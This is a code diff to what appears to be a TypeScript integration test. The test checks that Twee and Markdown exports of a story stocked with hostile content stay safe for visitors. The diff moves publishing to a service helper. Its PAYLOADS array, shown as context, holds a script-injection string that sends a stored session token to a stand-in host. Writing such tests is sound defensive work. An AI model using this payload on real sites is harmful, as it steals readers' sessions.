@@ -9,6 +9,7 @@ import { buildMarkdown } from '@/features/reader/export/build-markdown';
 import { buildTwee } from '@/features/reader/export/build-twee';
 import type { ExportSegment, ExportStory } from '@/features/reader/export/order-story-passages';
 import { signUpTestUser, visitorClient } from '../integration/support/test-users.ts';
+import { publishAsService } from '../integration/support/publish-as-service.ts';
 
 const PAYLOADS = [
   '<script>fetch("https://evil.example/?"+localStorage.getItem("sb"))</script>',
@@ -39,8 +40,6 @@ describe('Twee and Markdown exports of a hostile public story', () => {
       user_id: attacker.user.id,
       title: `Fun ${PAYLOADS[0]}`,
       description: PAYLOADS[1],
-      is_public: true,
-      published_at: new Date().toISOString(),
     });
     expect(created.error).toBeNull();
     const written = await attacker.client.from('story_segments').insert([
@@ -66,6 +65,7 @@ describe('Twee and Markdown exports of a hostile public story', () => {
       },
     ]);
     expect(written.error).toBeNull();
+    await publishAsService(id);
     // What any reader's device gets: the public story as a visitor reads it.
     const visitor = visitorClient();
     story = (
